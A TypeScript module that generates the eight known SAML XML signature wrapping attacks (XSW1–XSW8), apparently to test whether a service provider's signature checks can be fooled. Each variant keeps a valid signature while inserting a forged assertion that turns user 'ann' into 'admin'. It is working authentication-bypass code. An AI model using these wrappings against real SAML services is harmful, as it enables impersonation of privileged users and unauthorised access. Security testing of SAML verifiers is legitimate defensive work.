/** A response as text, whose signed elements are where the provider has put them. */
type Wrap = (signed: string) => string

interface Parts {
  /** The signed element: the assertion or the response. */
  original: string
  /** The original without its signature, which is the signed content. */
  content: string
  signature: string
  /** The original without its signature, for another user and with another ID. */
  forged: string
}

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const RESPONSE = /<samlp:Response[\s\S]*<\/samlp:Response>/
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/

function splitParts(xml: string, element: RegExp): Parts {
  const [original = ''] = element.exec(xml) ?? []
  const id = / ID="([^"]+)"/.exec(original)?.[1] ?? ''
  // A response may have a signed assertion in it: the signature that refers to the element is the one.
  const signature =
    original.match(new RegExp(SIGNATURE, 'g'))?.find((each) => each.includes(`URI="#${id}"`)) ?? ''
  if (id === '' || signature === '') throw new Error('The element is not signed')
  const content = original.replace(signature, '')
  const forged = content.replace(`ID="${id}"`, 'ID="_forged"').replace('>ann<', '>admin<')
  return { original, content, signature, forged }
}

/** Puts something in front of the last end of an element. */
const within = (xml: string, name: string, more: string) => {
  const at = xml.lastIndexOf(`</${name}>`)
  return xml.slice(0, at) + more + xml.slice(at)
}
const behindIssuer = (xml: string, more: string) =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`)

/**
 * The eight attacks by signature wrapping that "On Breaking SAML" (Somorovsky et al., USENIX Security 2012) describes,
 * numbered as in SAML Raider. The signature stays valid, but a careless service reads an element that was not signed. 1
 * and 2 need a signed response, the others a signed assertion.
 */
export const SIGNATURE_WRAPPINGS: Readonly<
  Record<string, { signs: 'response' | 'assertion'; wrap: Wrap }>
> = {
  XSW1: {
    signs: 'response',
    wrap: (xml) => {
      const { content, signature, forged } = splitParts(xml, RESPONSE)
      return behindIssuer(forged, within(signature, 'ds:Signature', content))
    },
  },
  XSW2: {
    signs: 'response',
    wrap: (xml) => {
      const { content, signature, forged } = splitParts(xml, RESPONSE)
      return behindIssuer(forged, content + signature)
    },
  },
  XSW3: {
    signs: 'assertion',
    wrap: (xml) => {
      const { original, forged } = splitParts(xml, ASSERTION)
      return xml.replace(original, () => forged + original)
    },
  },
  XSW4: {
    signs: 'assertion',
    wrap: (xml) => {
      const { original, forged } = splitParts(xml, ASSERTION)
      return xml.replace(original, () => within(forged, 'saml:Assertion', original))
    },
  },
  XSW5: {
    signs: 'assertion',
    wrap: (xml) => {
      const { original, content, signature, forged } = splitParts(xml, ASSERTION)
      return xml.replace(original, () => behindIssuer(forged, signature) + content)
    },
  },
  XSW6: {
    signs: 'assertion',
    wrap: (xml) => {
      const { original, content, signature, forged } = splitParts(xml, ASSERTION)
      return xml.replace(original, () =>
        behindIssuer(forged, within(signature, 'ds:Signature', content)),
      )
    },
  },
  XSW7: {
    signs: 'assertion',
    wrap: (xml) => {
      const { original, forged } = splitParts(xml, ASSERTION)
      const id = / ID="([^"]+)"/.exec(original)?.[1] ?? ''
      const same = forged.replace('ID="_forged"', `ID="${id}"`)
      return xml.replace(original, () => `<samlp:Extensions>${same}</samlp:Extensions>${original}`)
    },
  },
  XSW8: {
    signs: 'assertion',
    wrap: (xml) => {
      const { original, content, signature, forged } = splitParts(xml, ASSERTION)
      const object = `<ds:Object>${content}</ds:Object>`
      return xml.replace(original, () =>
        behindIssuer(forged, within(signature, 'ds:Signature', object)),
      )
    },
  },
}
